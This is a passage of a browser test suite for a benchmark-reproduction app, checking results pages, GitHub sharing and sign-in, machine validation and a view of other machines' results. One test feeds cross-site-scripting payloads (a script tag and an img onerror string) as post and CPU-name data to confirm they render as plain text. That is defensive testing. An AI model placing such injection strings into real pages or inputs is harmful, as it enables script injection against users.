    assert.equal(await page.locator('[data-smoke-run]').count(), 0, 'a measured run is not called a smoke run');
  });
  it('shows a card per claim, its band and interval drawn on one axis with numbered ticks', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    await page.locator('[data-verdict]').first().waitFor();
    assert.deepEqual(await page.locator('.verdicts > [data-verdict]').evaluateAll((cards) => cards.map((c) => c.dataset.verdict)), ['puma-ceiling', 'falcon-ceiling', 'falcon-twice-puma', 'falcon-above-puma']);
    for (const claim of ['falcon-twice-puma', 'puma-ceiling', 'falcon-ceiling']) {
      const picture = page.locator(`[data-verdict="${claim}"] svg[data-claim-picture]`);
      assert.equal(await picture.count(), 1, claim);
      assert.equal(await picture.locator('[data-band]').count(), 1, `${claim}: the band`);
      assert.equal(await picture.locator('[data-interval]').count(), 1, `${claim}: the interval`);
      assert.equal(await picture.locator('[data-estimate]').count(), 1, `${claim}: the estimate`);
      assert.equal(await picture.locator('[data-published]').count(), 1, `${claim}: the published number`);
    }
    const ratio = page.locator('[data-verdict="falcon-twice-puma"] svg[data-claim-picture]');
    assert.deepEqual(await ratio.locator('[data-tick]').allTextContents(), ['1.4', '1.6', '1.8', '2', '2.2', '2.4×']);
    assert.match(await ratio.getAttribute('aria-label'), /published 1.96×, accepted 1.67–2.25×; measured 1.99× \(1.99–2\)/);
    assert.deepEqual(await page.locator('[data-verdict="puma-ceiling"] [data-tick]').allTextContents(), ['20,000', '40,000', '60,000', '80,000 req/s']);
    // The interval lies inside the band on the picture, as the verdict says.
    const [band, interval] = await Promise.all([ratio.locator('[data-band]').boundingBox(), ratio.locator('[data-interval]').boundingBox()]);
    assert.ok(interval.x >= band.x && interval.x + interval.width <= band.x + band.width, JSON.stringify({ band, interval }));
    // The badge is coloured by its verdict.
    const colour = (sel) => page.locator(sel).evaluate((el) => getComputedStyle(el).color);
    assert.notEqual(await colour('[data-verdict="falcon-twice-puma"] .badge'), await colour('[data-verdict="puma-ceiling"] .badge'));
  });
  it('opens a claim to show its runs, the lanes’ server CPU, what differs and the reasoning', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    const card = page.locator('[data-verdict="falcon-twice-puma"]');
    await card.waitFor();
    const view = card.locator('[data-claim-view]');
    assert.equal(await view.evaluate((d) => d.open), false);
    assert.equal(await view.locator('[data-claim-runs]').isVisible(), false);
    await view.locator('summary').click();
    assert.equal(await view.locator('[data-claim-runs]').isVisible(), true);
    assert.deepEqual(await view.locator('[data-claim-runs] tbody tr').evaluateAll((rows) => rows.map((r) => r.dataset.claimCell)), ['puma/req_per_s', 'falcon/req_per_s']);
    assert.match(await view.locator('[data-claim-cell="puma/req_per_s"]').innerText(), /30,200 req\/s \(29,952–30,449\)\s+98% of 1 CPU, CPU-bound/);
    // Nothing of this run differs from the recipe: no line for it.
    assert.equal(await view.locator('[data-claim-deviations]').count(), 0);
    assert.equal(await view.locator('[data-reasoning]').innerText(), 'measured ratio 1.99× (95% interval 1.99× to 2×) against 1.67× to 2.25×: inside the published band; every lane had the CPU it wanted (falcon 98%, puma 98%).');
    // A claim not judged on this machine: its sentence of why says it all.
    assert.equal(await page.locator('[data-verdict="puma-ceiling"] [data-reasoning]').count(), 0);
  });
  it('says no sentence twice on a run’s page', async () => {
    for (const [script, run] of [['default', 'hello-ceiling-20261130-050000'], ['smoke', 'hello-ceiling-20261201-090000'], ['conclusive', 'hello-ceiling-20261202-100000'], ['counts', 'campfire-nightly-1'], ['people', 'campfire-people-1']]) {
      await open(script, `results/${run}`);
      await page.locator('.report [data-tally]').waitFor();
      await page.locator('details').evaluateAll((all) => all.forEach((d) => (d.open = true)));
      assert.deepEqual(await repeatedSentences(), [], `${run} says a sentence twice`);
    }
  });
  it('lists every measured lane, a reference lane no claim reads included, with its stability flags', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    const nginx = page.locator('[data-measured-lanes] [data-lane="nginx"]');
    await nginx.waitFor();
    assert.match(await nginx.innerText(), /no published figure reads it/);
    assert.match(await nginx.innerText(), /91,200 req\/s \(90,952–91,449\)/);
    assert.match(await nginx.innerText(), /0.42 ms \/ 1.1 ms/);
    assert.match(await nginx.innerText(), /throughput: client-bound: the load generator used 97% of its CPU in run 2/);
    const puma = page.locator('[data-measured-lanes] [data-lane="puma"]');
    assert.match(await puma.innerText(), /tail latency: high spread, runs vary 15.3%/);
    assert.equal(await puma.locator('[data-no-figure]').count(), 0);
    assert.match(await text('[data-measured-lanes] [data-lane="falcon"]'), /steady/);
    assert.equal(await page.locator('[data-measured-lanes] tbody tr').count(), 3);
    // What each lane's server got from the machine, beside its numbers.
    assert.equal(await puma.locator('[data-server-cpu]').innerText(), '98% of 1 CPU, CPU-bound');
  });
  it('summarises the environment readably, the raw records folded away', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    const machine = page.locator('[data-measured-on]');
    await machine.waitFor();
    assert.equal(await machine.locator('[data-fact="CPU"]').innerText(), 'AMD Ryzen 7 5800X 8-Core Processor (AuthenticAMD, family 25 model 33)');
    assert.equal(await machine.locator('[data-fact="Memory"]').innerText(), '31.2 GiB, 26.7 GiB available, swap 0.0 GiB');
    assert.equal(await machine.locator('[data-fact="Virtualisation"]').innerText(), 'none (bare metal)');
    assert.equal(await text('[data-toolchains] [data-fact="puma"]'), 'puma version 6.6.0 ("Return to Forever")');
    assert.equal(await text('[data-toolchains] [data-fact="connections"]'), '16');
    const raw = page.locator('[data-raw-environment]');
    assert.equal(await raw.evaluate((d) => d.open), false);
    assert.equal(await raw.locator('pre').first().isVisible(), false);
    await raw.locator('summary').click();
    assert.match(await raw.innerText(), /"hostname": "desk-seven"/);
  });
  it('words the run list’s counts as the headline, with human dates and the ISO time on hover', async () => {
    await open('default', 'results/hello-ceiling-20261130-050000');
    await page.locator('.report [data-tally]').waitFor();
    const headline = await text('.report [data-tally]');
    assert.equal(headline, '2 reproduced · 2 not comparable');
    assert.equal(await text('[data-run="hello-ceiling-20261130-050000"] [data-tally]'), headline);
    const when = page.locator('[data-run="hello-ceiling-20261130-050000"] time');
    assert.equal(await when.getAttribute('title'), '2026-11-30T05:00:00Z');
    assert.equal(await when.getAttribute('datetime'), '2026-11-30T05:00:00Z');
    assert.match(await when.innerText(), /^(29|30) Nov 2026, \d\d:\d\d( \(.+ ago\))?$/);
    assert.doesNotMatch(await text('.runs'), /2026-11-30T/);
  });
  it('labels a smoke run in the list and the report, with how long ago it ran and the lanes it skipped', async () => {
    await open('smoke', 'results/hello-ceiling-20261201-090000');
    const smoke = page.locator('[data-run="hello-ceiling-20261201-090000"]');
    await smoke.waitFor();
    assert.match(await smoke.locator('[data-smoke-run]').innerText(), /a smoke run, not a measurement/);
    assert.match(await smoke.locator('time').innerText(), /\(5 min ago\)$/);
    assert.equal(await page.locator('[data-run="hello-ceiling-20261130-050000"] [data-smoke-run]').count(), 0);
    // A cancelled run is listed as one; a finished one carries no such word.
    assert.equal(await smoke.locator('[data-ending="cancelled"]').innerText(), 'cancelled');
    assert.equal(await page.locator('[data-run="hello-ceiling-20261130-050000"] [data-ending]').count(), 0);
    assert.match(await text('.report h2'), /a smoke run, not a measurement/);
    // The claims not measured here: no card, no bare axes; their reason said once, with the claims it stops.
    assert.deepEqual(await page.locator('.verdicts > [data-verdict]').evaluateAll((cards) => cards.map((c) => c.dataset.verdict)), ['puma-ceiling']);
    // Its one run has no interval to draw.
    assert.equal(await page.locator('svg[data-claim-picture]').count(), 0);
    const group = page.locator('[data-not-measured-reason]');
    assert.equal(await group.count(), 1);
    assert.equal(
      await group.innerText(),
      'Not measured here lane falcon was not measured (preflight): it needs falcon, which this machine lacks. Claims: falcon-ceiling, falcon-twice-puma, falcon-above-puma.',
    );
    assert.equal(await page.locator('.report', { hasText: 'it needs falcon' }).locator('li', { hasText: 'it needs falcon' }).count(), 1);
    assert.match(await text('[data-not-measured] [data-lane="falcon"]'), /falcon: why is said once, under “Not measured here” in the verdicts/);
    assert.match(await text('[data-measured-lanes] [data-lane="puma"]'), /one run: no spread to read/);
    assert.match(await text('[data-measured-on]'), /AMD Ryzen 7 5800X/);
    // A card names what of the run differs from the post, said above it.
    await page.locator('[data-verdict="puma-ceiling"] [data-claim-view] summary').click();
    assert.equal(await text('[data-verdict="puma-ceiling"] [data-claim-deviations]'), 'a smoke run (--quick) (said above)');
    // Said once: the lanes not measured are not deviations too.
    assert.doesNotMatch(await text('[data-deviations]'), /not measured/);
  });
  it('marks a claim a run that went on until conclusive decided, with its rule and its wider intervals', async () => {
    await open('conclusive', 'results/hello-ceiling-20261202-100000');
    const decided = page.locator('[data-verdict="falcon-twice-puma"] [data-decided]');
    await decided.waitFor();
    assert.equal(await decided.innerText(), 'decided after 5 runs');
    assert.equal(await page.locator('[data-verdict="puma-ceiling"] [data-decided]').count(), 0);
    assert.match(await text('[data-sequential]'), /until each claim measured here was decided \(--until-conclusive\): claims looked at after 3, 5, 8/);
    assert.match(await page.locator('[data-verdict="puma-ceiling"] [data-claim-runs] thead').textContent(), /Median \(99\.17% interval\)/);
  });
  it('shows a count bare, without a ratio’s ×, in the lanes, the verdict and the chart', async () => {
    await open('counts', 'results/campfire-nightly-1');
    const seed = page.locator('[data-measured-lanes] [data-lane="seed"]');
    await seed.waitFor();
    assert.match(await seed.innerText(), /counts: 6(\s|$)/);
    assert.doesNotMatch(await seed.innerText(), /6×/);
    assert.match(await seed.innerText(), /one run: no spread to read/);
    assert.equal(await text('[data-verdict="six-rooms"] [data-why]'), 'Measured 6 (6–6): inside the 5.1–6.9 the claim accepts (published 6).');
    const ticks = await page.locator('[data-verdict="six-rooms"] [data-tick]').allTextContents();
    assert.ok(ticks.length >= 3 && ticks.every((t) => /^[\d.,]+$/.test(t)), ticks.join(' '));
    // A lane whose cell recorded no runs says so, not that it had one.
    const jruby = page.locator('[data-measured-lanes] [data-lane="jruby"]');
    assert.match(await jruby.innerText(), /no runs recorded/);
    assert.doesNotMatch(await jruby.innerText(), /one run/);
    assert.match(await text('[data-verdict="jruby-ceiling"] [data-why]'), /: across an edge of the 1,455–1,969 req\/s the claim accepts \(published 1,712 req\/s\); about 1 more run would settle it\.$/);
  });
  it('shows each step of people, served or why not', async () => {
    await open('people', 'results/campfire-people-1');
    const served = page.locator('[data-people-step="rails/250"]');
    await served.waitFor();
    assert.equal(await served.getAttribute('class'), 'served');
    const missed = page.locator('[data-people-step="rails/1000"]');
    assert.equal(await missed.getAttribute('class'), 'not-served');
    assert.match(await missed.innerText(), /navigation p99 812.0 ms > 100 ms/);
    assert.match(await missed.innerText(), /lost_delivery 104/);
    assert.equal(await page.locator('table.people th').count(), 10);
    assert.match(await text('[data-smoke-run]'), /a smoke run, not a measurement/);
    assert.equal(await page.locator('[data-result]').count(), 0);
    assert.match(await text('[data-measured-on]'), /records nothing of its machine/);
  });
  it('explains an empty history', async () => {
    await open('empty', 'results');
    assert.match(await text('.notice'), /No runs yet/);
  });
  it('shows a history error where it happened', async () => {
    await open('error', 'results');
    assert.match(await text('[role=alert]'), /file is not a database/);
  });
});

describe('Share', () => {
  it('previews the redacted report, signs in with a device code, posts and shows the link', async () => {
    await open('default', 'share/hello-ceiling-20261130-050000');
    await page.locator('[data-report-preview]').waitFor();
    assert.match(await text('.redacted'), /desk-seven/);
    // Rendered, in a frame that runs no scripts; the Markdown folded below.
    assert.equal(await page.locator('[data-report-preview]').getAttribute('sandbox'), '');
    assert.equal(await page.frameLocator('[data-report-preview]').locator('h1').innerText(), 'Reprise: Campfire under Falcon: the hello-world ceilings');
    assert.equal(await page.locator('pre.preview').isVisible(), false);
    await page.locator('details.markdown > summary').click();
    assert.match(await text('pre.preview'), /^# Reprise: Campfire under Falcon/);
    assert.doesNotMatch(await text('pre.preview'), /desk-seven/);
    assert.equal(await page.locator('[data-field="repo"]').inputValue(), 'rubys/reprise');
    assert.equal(await page.locator('code.command').textContent(), 'reprise share hello-ceiling-20261130-050000');
    await page.locator('[data-action="sign-in"]').click();
    assert.equal(await text('[data-user-code]'), 'WDJB-MJHT');
    assert.match(await text('.device-code'), /https:\/\/github.com\/login\/device/);
    assert.match(await text('.device-code'), /the code expires in 15 min\./);
    await page.locator('[data-action="submit"]').waitFor();
    await page.locator('[data-action="submit"]').click();
    assert.equal(await page.locator('[data-posted]').inputValue(), 'https://github.com/rubys/reprise/discussions/7');
  });
  it('without a sign-in or a repository: the repository field, checked, then Copy, Save and the prefilled link', async () => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await open('sharenoapp', 'share/hello-ceiling-20261130-050000');
    await page.locator('[data-no-repo]').waitFor();
    assert.equal(await page.locator('[data-action="open-prefilled"]').count(), 0);
    await page.locator('[data-field="repo"]').fill('not a repository');
    await page.locator('[data-action="use-repo"]').click();
    assert.match(await text('[data-repo-form] [role=alert]'), /`not a repository` is not a repository: write it as OWNER\/NAME/);
    await page.locator('[data-field="repo"]').fill('rubys/reprise');
    await page.locator('[data-action="use-repo"]').click();
    assert.equal(await text('[data-repo]'), 'rubys/reprise');
    assert.equal(await page.locator('[data-repo-form] [role=alert]').count(), 0);
    // No OAuth app: the prefilled discussion is the main way, a button.
    const openOnGitHub = page.locator('[data-action="open-prefilled"]');
    await openOnGitHub.waitFor();
    assert.equal(await openOnGitHub.getAttribute('class'), null, 'the main action, not a secondary one');
    assert.equal(await page.locator('[data-action="sign-in"]').count(), 0);
    assert.match(await page.locator('[data-prefilled]').inputValue(), /^https:\/\/github\.com\/rubys\/reprise\/discussions\/new\?category=hello-ceiling&title=Reprise/);
    await openOnGitHub.click();
    assert.match(await text('[data-opened]'), /Opened the prefilled discussion in your browser/);
    // Copy gives the redacted Markdown the backend made (the text Save writes), not one rebuilt in the page.
    await page.locator('[data-action="copy"]').click();
    assert.match(await text('[data-share-done]'), /Copied the report/);
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    assert.match(copied, /^Reprise: Campfire under Falcon: the hello-world ceilings \(2 reproduced · 2 not comparable\)\n\n# Reprise: Campfire under Falcon/);
    assert.match(copied, /\nFrom the backend\.\n$/);
    assert.doesNotMatch(copied, /desk-seven/);
    await page.locator('[data-action="save"]').click();
    assert.equal(await text('[data-share-done]'), 'Saved the report to /home/reader/.local/share/reprise/shares/hello-ceiling-20261130-050000.md');
  });
  it('keeps a pasted token only once GitHub names its account, names it, and signs out', async () => {
    await open('sharenoapp', 'share/hello-ceiling-20261130-050000');
    await page.locator('[data-sign-in]').waitFor();
    // A token GitHub refuses is not kept: said so, with what to do.
    await page.locator('[data-token]').fill('ghp_revoked' + 'x'.repeat(30));
    await page.locator('[data-action="keep-token"]').click();
    assert.match(await text('[data-sign-in] [role=alert]'), /GitHub refused the token \(401: Bad credentials\)/);
    assert.match(await text('[data-sign-in] [role=alert]'), /What to do: Sign out, then paste a new token/);
    assert.equal(await page.locator('[data-signed-in]').count(), 0);
    // A good one: kept, and the account it signs in as is named.
    await page.locator('[data-token]').fill('ghp_' + 'x'.repeat(36));
    await page.locator('[data-action="keep-token"]').click();
    await page.locator('[data-signed-in]').waitFor();
    assert.equal(await text('[data-login]'), 'octo-reader');
    assert.equal(await text('[data-signed-in-as]'), 'Signed in to GitHub as octo-reader, with the token kept at sign-in.');
    // Signing out forgets it: the sign-in form is back.
    await page.locator('[data-action="sign-out"]').click();
    await page.locator('[data-sign-in]').waitFor();
    assert.equal(await page.locator('[data-signed-in]').count(), 0);
  });
  it('shows a failed post where it happened, with what to do', async () => {
    await open('shareerror', 'share/hello-ceiling-20261130-050000');
    // REPRISE_DISCUSSIONS_REPO decides here: the field says so and cannot be changed.
    assert.match(await text('[data-repo-from]'), /rubys\/nope \(from REPRISE_DISCUSSIONS_REPO\).*without REPRISE_DISCUSSIONS_REPO/);
    assert.equal(await page.locator('[data-field="repo"]').isDisabled(), true);
    await page.locator('[data-action="submit"]').click();
    assert.match(await text('[role=alert]'), /Could not resolve to a Repository/);
    assert.match(await text('[role=alert]'), /What to do: Check the repository/);
  });
});

describe('Machine', () => {
  it('shows the fingerprint as labelled rows, the raw facts folded away', async () => {
    await open('default', 'machine');
    assert.equal(await text('[data-summary="CPU"]'), 'AMD Ryzen 7 5800X 8-Core Processor (AuthenticAMD, family 25 model 33)');
    assert.equal(await text('[data-summary="Governor"]'), 'performance (all 16 policies)');
    assert.equal(await text('[data-summary="Virtualisation"]'), 'none (bare metal)');
    assert.equal(await page.locator('[data-fact="cpu.logical_threads"]').isVisible(), false);
    assert.equal(await text('details.raw-facts > summary'), 'Every fact the probe read (174)');
    await page.locator('details.raw-facts > summary').click();
    assert.equal(await text('[data-fact="cpu.logical_threads"]'), '16');
    assert.equal(await text('[data-fact="clock.governor"]'), 'performance');
  });
  it('validates the machine: running, then ready with its ceiling, saved in the history', async () => {
    await open('default', 'machine');
    await page.locator('[data-action="validate"]', { hasText: 'Validate this machine' }).click();
    const verdict = page.locator('[data-fitness="ready"]');
    await verdict.waitFor();
    assert.equal(await text('[data-fitness] .fitness'), 'Ready to benchmark on');
    assert.match(await text('.validation-summary'), /^reprise validate: ready — /);
    // The verdict's words head it; the terminal's one line is there to paste, not as its headline.
    assert.equal(await page.locator('[data-fitness] h3.fitness + [data-ceiling]').count(), 1);
    assert.match(await text('[data-ceiling]'), /74,210 req\/s median over 3 runs, spread 0\.5% \(server on CPU 0, load generator on CPU 1\)/);
    assert.match(await text('[data-fitness] .meta'), /A quick validation\. Saved in the history as machine-20261201-090000/);
    assert.equal(await page.locator('[data-fitness] .meta a').getAttribute('href'), '#/results/machine-20261201-090000');
    // Nothing to look at: every check is ok, folded.
    assert.equal(await page.locator('[aria-label="Checks that warn or fail"]').count(), 0);
    assert.equal(await text('details.checks-ok > summary'), '18 checks ok');
  });
  it('says a ceiling of one run has no spread to read, warns of it, and counts one check in the singular', async () => {
    await open('onerun', 'machine');
    await page.locator('[data-action="validate"]').click();
    await page.locator('[data-fitness="usable_with_caveats"]').waitFor();
    // As `reprise validate` prints it (the session's line for both).
    assert.equal(await text('[data-ceiling]'), 'Loopback ceiling: 74,210 req/s median over 1 run, no spread to read (server on CPU 0, load generator on CPU 1).');
    assert.match(await text('[data-check="ceiling"]'), /^warn ceiling: /);
    assert.equal(await text('details.checks-ok > summary'), '1 check ok');
  });
  it('shows the validation running with its progress, then the caveats with why and the fix', async () => {
    await open('caveats', 'machine');
    await page.locator('[data-action="validate"]').click();
    // What the page shows while it runs, read in the page at the moment the
    // line appears: read a step at a time, a busy machine let the
    // validation end between the steps.
    const running = await page.waitForFunction(() => {
      const pre = document.querySelector('[data-validating] pre');
      if (!pre?.textContent.includes('stability: SHA-256')) return null;
      return {
        status: document.querySelector('[data-validating] [role=status]')?.innerText,
        validate: document.querySelector('[data-action="validate"]')?.disabled,
        full: document.querySelector('[data-action="validate-full"]')?.disabled,
      };
    });
    const seen = await running.jsonValue();
    assert.match(seen.status, /Validating \(quick, about 15 s\)/);
    assert.deepEqual([seen.validate, seen.full], [true, true]);
    await page.locator('[data-fitness="usable_with_caveats"]').waitFor();
    assert.equal(await page.locator('[data-validating]').count(), 0);
    assert.equal(await text('[data-fitness] .fitness'), 'Usable, with caveats');
    const vm = page.locator('[data-check="virtualization"]');
    assert.match(await vm.innerText(), /^warn virtualization: virtual machine \(Google\)/);
    assert.match(await vm.locator('.why').innerText(), /^Why it matters: vCPUs share physical cores/);
    assert.equal(await vm.locator('.fix code').innerText(), 'use bare metal or dedicated (pinned) vCPUs; compare ratios rather than absolute figures');
    // No container engine is no caveat: only container lanes need one, and no advice to install Docker.
    assert.equal(await page.locator('[data-check="container_engine"] .fix').count(), 0);
    assert.doesNotMatch(await text('main'), /docker\.io/);
    assert.match(await text('[data-fitness] .meta'), /Not saved in the history: history\.sqlite: attempt to write a readonly database/);
    assert.equal(await page.locator('[data-action="validate"]').isDisabled(), false);
  });
  it('says why a validation could not run, with what to do, and can be tried again', async () => {
    await open('validateerror', 'machine');
    await page.locator('[data-action="validate"]').click();
    const alert = page.locator('.validate [role=alert]');
    await alert.waitFor();
    assert.match(await alert.innerText(), /Could not validate this machine\./);
    assert.match(await alert.innerText(), /Too many open files/);
    assert.match(await alert.innerText(), /What to do: Close other busy programs/);
    assert.equal(await page.locator('[data-action="validate"]').isDisabled(), false);
  });
  it('shows an error with what to do', async () => {
    await open('error', 'machine');
    assert.match(await text('[role=alert]'), /Restart the app/);
  });
});

describe('Everyone’s results', () => {
  const claim = (id) => page.locator(`[data-claim="${id}"]`);
  const dots = (id) => claim(id).locator('[data-point]');
  it('draws every machine’s interval against the band the claim accepts, this machine highlighted', async () => {
    await open('others', 'others/hello-ceiling');
    await claim('falcon-twice-puma').waitFor();
    assert.match(await text('[data-fetch="fetched"]'), /Fetched 7 new or changed discussions\. From the Discussions of rubys\/reprise, as of/);
    assert.equal(await text('[data-counted]'), '4 results counted (the newest post per author of this recipe version; 1 older or repeated post left out); 2 posts kept apart, below.');
    assert.equal(await dots('falcon-twice-puma').count(), 4);
    assert.equal(await claim('falcon-twice-puma').locator('[data-band]').count(), 1);
    assert.equal(await claim('falcon-twice-puma').locator('[data-published]').count(), 1);
    assert.equal(await text('[data-claim="falcon-twice-puma"] [data-counts]'), '3 reproduced · 1 not reproduced');
    // The band spans what the claim accepts: ben's 1.5× falls left of it, chen's 2× inside.
    const band = await claim('falcon-twice-puma').locator('[data-band]').boundingBox();
    const at = async (n) => (await claim('falcon-twice-puma').locator(`[data-point="${n}"] circle`).boundingBox());
    const ben = await at(3);
    const chen = await at(4);
    assert.ok(ben.x + ben.width < band.x, `ben ${ben.x} band ${band.x}`);
    assert.ok(chen.x > band.x && chen.x + chen.width < band.x + band.width, `chen ${chen.x}`);
    assert.equal(await dots('falcon-twice-puma').nth(2).getAttribute('data-answer'), 'not_reproduced');
    const mine = claim('falcon-twice-puma').locator('[data-this-machine]');
    assert.equal(await mine.count(), 1);
    assert.match(await mine.locator('title').textContent(), /This machine: reproduced, 1\.99× \(1\.99–2\): higher than 3/);
    assert.equal(await text('[data-claim="falcon-twice-puma"] [data-this-machine-words]'), 'This machine: reproduced, 1.99× (1.99–2): higher than 3 and lower than 1 of 4 other machines');
    // How to read the charts is said once, above them.
    assert.equal(await page.locator('[data-strip-legend]').count(), 1);
    assert.deepEqual(await repeatedSentences(), []);
    // An ordering has no interval: counted, not drawn.
    assert.match(await text('[data-claim="falcon-above-puma"] [data-no-intervals]'), /No machine measured it \(4 machines without an interval\)/);
    assert.match(await text('[data-this-run]'), /Run hello-ceiling-20261130-050000 on AMD Ryzen 7 5800X 8-Core Processor, not shared yet: share it\./);
  });
  it('filters the machines by CPU vendor, model and virtualisation', async () => {
    await open('others', 'others/hello-ceiling');
    await claim('falcon-twice-puma').waitFor();
    await page.selectOption('[data-filter="vendor"]', 'AuthenticAMD');
    assert.deepEqual(await dots('falcon-twice-puma').evaluateAll((d) => d.map((e) => e.dataset.point)), ['4']);
    assert.equal(await text('[data-claim="falcon-twice-puma"] [data-counts]'), '1 reproduced');
    await page.selectOption('[data-filter="vendor"]', 'GenuineIntel');
    const models = await page.locator('[data-filter="cpu"] option').evaluateAll((o) => o.map((e) => e.value));
    assert.ok(!models.includes('AMD EPYC 7763 64-Core Processor') && models.includes('Intel(R) Xeon(R) Gold 6338 CPU @ 2.00GHz'), models.join(' | '));
    await page.selectOption('[data-filter="cpu"]', 'Intel(R) Xeon(R) Gold 6338 CPU @ 2.00GHz');
    assert.deepEqual(await dots('falcon-twice-puma').evaluateAll((d) => d.map((e) => e.dataset.point)), ['3', '2']);
    await page.selectOption('[data-filter="virtualisation"]', 'virtual');
    assert.deepEqual(await dots('falcon-twice-puma').evaluateAll((d) => d.map((e) => e.dataset.point)), ['3']);
    await page.selectOption('[data-filter="virtualisation"]', 'bare');
    assert.deepEqual(await dots('falcon-twice-puma').evaluateAll((d) => d.map((e) => e.dataset.point)), ['2']);
    // This machine stays, whatever is shown of the others.
    assert.equal(await claim('falcon-twice-puma').locator('[data-this-machine]').count(), 1);
  });
  it('opens a machine’s discussion in the browser when its dot is clicked', async () => {
    await open('others', 'others/hello-ceiling');
    await dots('falcon-twice-puma').first().waitFor();
    await claim('falcon-twice-puma').locator('[data-point="4"] circle').click();
    assert.equal(await text('[data-link-opened]'), 'Opened https://github.com/rubys/reprise/discussions/4 in your browser.');
    await page.locator('[data-apart-post="6"] a').click();
    assert.equal(await text('[data-link-opened]'), 'Opened https://github.com/rubys/reprise/discussions/6 in your browser.');
    assert.match(await page.url(), /#\/others\/hello-ceiling$/, 'the app stays where it was');
  });
  it('shows a post’s text as text: nothing of it becomes HTML', async () => {
    await open('others', 'others/hello-ceiling');
    await claim('falcon-twice-puma').waitFor();
    assert.equal(await page.locator('main img, main script').count(), 0);
    assert.notEqual(await page.title(), 'pwned');
    assert.match(await text('[data-apart-post="7"]'), /#7 <script>document\.title="pwned"<\/script> by mallory/);
    assert.match(await text('[data-apart-post="7"]'), /malformed: EOF while parsing a list/);
    const models = await page.locator('[data-filter="cpu"] option').evaluateAll((o) => o.map((e) => e.textContent));
    assert.ok(models.includes('<img src=x onerror="document.title=\'pwned\'">Xeon'), models.join(' | '));
  });
  it('says why nothing was fetched and what to do', async () => {
    await open('othersnone', 'others/hello-ceiling');
    await page.locator('[data-fetch="not_signed_in"]').waitFor();
    assert.match(await text('[data-fetch]'), /GitHub’s API answers only signed-in requests, even for public discussions \(sign in below\)/);
    assert.match(await text('.notice'), /No results have been read from rubys\/reprise yet/);
    assert.match(await text('[data-claim="falcon-twice-puma"] [data-no-points]'), /No machine’s result yet/);
    // Not a dead end: the discussions are public in a browser, one click away.
    assert.equal(await page.locator('[data-discussions-link] a').getAttribute('href'), 'https://github.com/rubys/reprise/discussions');
    assert.match(await text('[data-discussions-link]'), /Signed in, this page reads them and counts each result here/);
    // Signing in is on this page, no OAuth app needed: GH_TOKEN, gh, or a pasted token.
    const signIn = page.locator('[data-sign-in]');
    await signIn.waitFor();
    assert.match(await signIn.innerText(), /GH_TOKEN/);
    assert.match(await signIn.innerText(), /gh auth login/);
    assert.equal(await page.locator('[data-token]').getAttribute('type'), 'password');
    await page.locator('[data-token]').fill('not a token');
    await page.locator('[data-action="keep-token"]').click();
    assert.match(await text('[data-sign-in] [role=alert]'), /not a GitHub token/);
    await page.locator('[data-token]').fill('ghp_' + 'x'.repeat(36));
    await page.locator('[data-action="keep-token"]').click();
    // Kept, and the fetch goes again: the results read.
    await page.locator('[data-fetch="fetched"]').waitFor();
    assert.equal(await page.locator('[data-sign-in]').count(), 0);
  });
  it('fetches again on request, showing what it had meanwhile', async () => {
    await open('othersrefetch', 'others/hello-ceiling');
    await page.locator('[data-fetch="failed"]').waitFor();
    assert.match(await text('[data-fetch]'), /Not fetched: GitHub’s API rate limit is spent \(it resets in 12 minutes\)\. Showing what was read before\./);
    assert.equal(await dots('falcon-twice-puma').count(), 4);
    await page.locator('[data-fetch-again]').click();
    await page.locator('[data-fetch="fetched"]').waitFor();
    assert.equal(await dots('falcon-twice-puma').count(), 4);
  });
  it('is reached from the post', async () => {
    await open('default', 'post/hello-ceiling');
    assert.equal(await page.locator('[data-others-link]').getAttribute('href'), '#/others/hello-ceiling');
  });
});

describe('the page', () => {
  it('outside the app without a script says how to open the app', async () => {
    await page.goto(server.url);
    assert.match(await text('.notice'), /scripts\/app/);
  });
  it('scrolls no page sideways at the app’s size (1180×800)', async () => {
    await page.setViewportSize({ width: 1180, height: 800 });
    const pages = [
      ['default', 'library'],
      ['default', 'post/hello-ceiling'],
      ['default', 'preflight/hello-ceiling'],
      ['default', 'run/hello-ceiling'],
      ['default', 'results/hello-ceiling-20261130-050000'],
      ['default', 'share/hello-ceiling-20261130-050000'],
      ['default', 'machine'],
      ['others', 'others/hello-ceiling'],
      // A long list of claims a run cannot judge wraps between its ids.
      ['campfire', 'run/campfire-falcon'],
      // The machine recipe's long command lines; a command recipe.
      ['otherplans', 'run/machine'],
      ['otherplans', 'run/fibers-vs-threads'],
    ];
    const wide = [];
    for (const [script, hash] of pages) {
      await open(script, hash);
      await page.locator('h1').first().waitFor();
      if (script === 'otherplans') await page.locator('[data-step]').first().waitFor();
      await page.waitForTimeout(300);
      const sideways = await page.evaluate(sidewaysScroll);
      if (sideways > 0) wide.push(`${hash}: ${sideways} px`);
    }
    assert.deepEqual(wide, []);
  });
  it('logged no script errors in any test', () => {
    assert.deepEqual(errors, []);
  });
});
